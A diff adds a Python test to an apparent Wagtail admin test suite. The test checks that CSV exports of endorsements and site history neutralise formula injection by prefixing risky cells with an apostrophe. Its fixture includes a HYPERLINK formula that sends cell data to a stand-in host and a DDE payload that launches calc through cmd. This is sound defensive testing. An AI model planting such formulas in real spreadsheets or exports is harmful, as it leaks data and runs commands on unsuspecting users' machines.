@@ -1,5 +1,6 @@
 """Moderation as staff do it in the Wagtail admin: listing, filters, actions, history, exports, dashboard."""
 
+import csv
 import io
 import re
 
@@ -115,3 +116,32 @@ def test_the_inspect_view_shows_the_record_but_not_the_token_hash(editor_client)
     endorsement = make_endorsement("Lyon", token_hash="f" * 64)
     page = editor_client.get(f"{LISTING}inspect/{endorsement.pk}/").content.decode()
     assert "lyon@example.org" in page and "f" * 64 not in page
+
+
+FORMULAS = {
+    "institution_name": '=HYPERLINK("https://evil.example/?"&A1,"Lyon")',
+    "signatory_name": "+SUM(1,1)",
+    "signatory_title": "-2+3",
+    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "phone": "\t=1+1",
+    "statement": "\r=1+1",
+}
+
+
+def test_no_csv_cell_starts_a_formula(editor_client, moderate):
+    """OWASP's CSV injection: each cell an endorser typed that starts with = + - @ tab or carriage return comes out
+    prefixed with an apostrophe, in the endorsements' export and in the site history's (whose object labels carry
+    the institution's name); XLSX already writes them as text."""
+    endorsement = make_endorsement("Lyon", **FORMULAS)
+    moderate("approve_endorsement", [endorsement])
+    for url, params in ((LISTING, {"export": "csv"}), ("/admin/reports/site-history/", {"export": "csv"})):
+        response = editor_client.get(url, params)
+        assert response.status_code == 200, url
+        text = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r"))] == [], url
+        assert any(cell.startswith("'=HYPERLINK(") for cell in cells), url
+    exported = next(csv.DictReader(io.StringIO(b"".join(editor_client.get(LISTING, {"export": "csv"})).decode())))
+    assert sorted(value for value in exported.values() if value.startswith("'")) == sorted(
+        "'" + value for value in FORMULAS.values()
+    )
